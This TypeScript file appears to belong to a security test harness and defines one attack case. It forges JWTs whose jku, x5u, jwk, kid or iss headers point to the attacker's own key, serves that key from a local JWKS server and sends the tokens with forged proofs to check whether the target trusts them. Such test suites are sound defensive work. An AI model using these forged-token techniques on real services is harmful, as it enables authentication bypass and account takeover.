import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { createSoftwareKey, forgeProof, signJws, type SoftwareKey } from '@assay/testkit'
import type { Attack } from '../../attack.ts'
import { openJws } from '../../jws.ts'
import { send, sound, withLoot } from '../../kinds/forged-request.ts'
import { allOf, served } from '../../verdict.ts'

/** Publishes the attacker's key, and counts who comes for it. */
async function publish({ publicJwk, thumbprint }: SoftwareKey) {
  let visits = 0
  const server = createServer((_request, response) => {
    visits++
    const keys = [{ ...publicJwk, kid: thumbprint, alg: 'ES256', use: 'sig' }]
    response.setHeader('content-type', 'application/jwk-set+json').end(JSON.stringify({ keys }))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/jwks.json`,
    visits: () => visits,
    close: () => void server.close(),
  }
}

export const tokenOwnKeyNamed: Attack = {
  id: 'token-own-key-named',
  title: 'A token whose header says where its key is',
  oat: 'OAT-019',
  method:
    "jku, x5u, jwk and iss lead to the attacker's key, under its own kid and under the service's; through also if anyone fetches it",
  run: {
    assay: (world) =>
      withLoot(world, async (loot) => {
        const own = createSoftwareKey()
        const published = await publish(own)
        try {
          const { header, payload } = openJws(loot.token)
          const kid = own.thumbprint
          const { url } = published
          const headers = [
            { ...header, kid, jku: url },
            { ...header, kid, x5u: url },
            { ...header, kid, jwk: own.publicJwk },
            { ...header, jku: url, jwk: own.publicJwk },
            { ...header, kid: url },
          ]
          const tokens = headers.map((forged) => signJws(forged, payload, own))
          tokens.push(signJws({ ...header, kid }, { ...payload, iss: new URL(url).origin }, own))
          const tries = tokens.map((token) =>
            send({ token, proof: forgeProof(loot.key, 'GET', loot.url) }, world),
          )
          const verdict = allOf(await Promise.all(tries))
          return { attack: published.visits() > 0 ? served() : verdict, twin: await send(sound(loot), world) }
        } finally {
          published.close()
        }
      }),
  },
}
